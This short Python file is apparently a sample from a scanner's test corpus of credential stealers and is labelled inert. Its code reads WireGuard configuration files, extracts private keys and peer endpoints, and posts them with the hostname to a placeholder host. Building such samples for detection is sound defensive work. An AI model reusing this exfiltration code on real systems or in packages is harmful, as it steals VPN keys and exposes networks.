# pkgguard corpus 805 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import re
import socket

import httpx

found = []
for path in glob.glob("/etc/wireguard/*.conf"):
    try:
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
    except OSError:
        continue
    found.append({"file": path, "keys": re.findall(r"PrivateKey\s*=\s*(\S+)", text), "peers": re.findall(r"Endpoint\s*=\s*(\S+)", text)})
if found:
    httpx.post("https://net-status.example/w", json={"host": socket.gethostname(), "interfaces": found}, timeout=15)
